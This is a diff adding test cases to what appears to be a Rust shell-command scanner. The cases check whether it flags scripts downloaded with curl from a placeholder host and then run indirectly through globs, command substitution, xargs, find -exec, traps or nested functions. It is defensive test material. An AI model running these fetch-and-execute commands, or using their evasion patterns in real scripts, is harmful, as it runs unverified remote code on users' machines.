@@ -501,6 +501,25 @@ const CASES: &[(&str, &str)] = &[
         "f(){ bash ./i.sh; }; F4(){ f;}; F3(){ F4;}; F2(){ F3;}; F1(){ F2;}; trap 'curl -so i.sh https://x/v; F1' EXIT",
         "0054",
     ),
+    // A file saved from the network and run under a name the walk cannot read whole: a
+    // command's output, a glob (the file is written at run time, so no glob finds it now), a
+    // loop over one, `find -exec`, `xargs`, a variable a body walked on its own reads, a
+    // parameter past the calls the walk follows, and a command name once it is executable.
+    ("curl -so i.sh https://x/i; bash \"$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; for f in *.sh; do bash \"$f\"; done", "0057"),
+    ("curl -so i.sh https://x/i; read f < n; . \"$f\"", "0057"),
+    ("curl -so i.sh https://x/i; chmod +x i.sh; \"$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; find . -name \"*.sh\" -exec bash {} \\;", "0057"),
+    ("curl -so i.sh https://x/i; ls *.sh | xargs -n1 bash", "0057"),
+    ("curl -so i.sh https://x/i; bash ./*.sh", "0057"),
+    ("curl -so i.sh https://x/i; python3 \"$(cat n)\"", "0057"),
+    ("curl -so i.sh https://x/i; s=i.sh; trap 'bash \"$s\"' EXIT", "0057"),
+    ("curl -so i.sh https://x/i; a(){ b; }; b(){ c; }; c(){ d; }; d(){ e i.sh; }; e(){ bash \"$1\"; }; a", "0057"),
+    // Where what is known of the name does not fit, or the file is not made executable: not.
+    ("curl -so d.json https://x/d; bash \"tests/$t.sh\"", "0047"),
+    ("curl -so d.json https://x/d; \"$JQ\" . d.json", "0046"),
+    ("curl -so i.sh https://x/i; bash \"$(cat n)/y.sh\"", "0047"),
+    ("curl -so i.sh https://x/i; chmod 644 i.sh; \"$(cat n)\"", "0047"),
     // What is not fetched stays so: a file of another name saved where the directory is not
     // known.
     ("out=$(mktemp -d); curl -s https://x/d.json > \"$out/d.json\"; ./build.sh", "0045"),
